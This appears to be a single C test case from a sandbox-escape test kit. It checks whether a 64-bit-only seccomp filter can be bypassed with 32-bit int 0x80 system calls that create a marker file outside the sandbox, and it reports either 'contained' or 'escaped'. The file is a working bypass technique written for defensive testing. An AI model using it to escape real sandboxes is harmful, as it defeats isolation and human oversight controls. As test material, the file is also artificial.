// Goal:    create a file outside with 32-bit system calls (int 0x80)
// Models:  32-bit ABI bypass of a 64-bit-only seccomp filter
// Oracle:  marker
// Tier:    core
// Needs:   x86
#include "ctk.h"
static long i80(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(n), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return (int)r;
}
int main(int c, char **v) {
    ctk_init(c, v);
    char *p = mmap(0, 8192, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    strcpy(p, M);
    strcpy(p + 4096, NONCE);
    long fd = i80(5, (long)p, O_CREAT | O_WRONLY, 0644);
    if (fd < 0)
        contained("int80 open: %s", strerror(-fd));
    long n = i80(4, fd, (long)(p + 4096), strlen(NONCE));
    if (n < 0)
        contained("int80 write: %s", strerror(-n));
    escaped("int80 wrote %s", M);
}
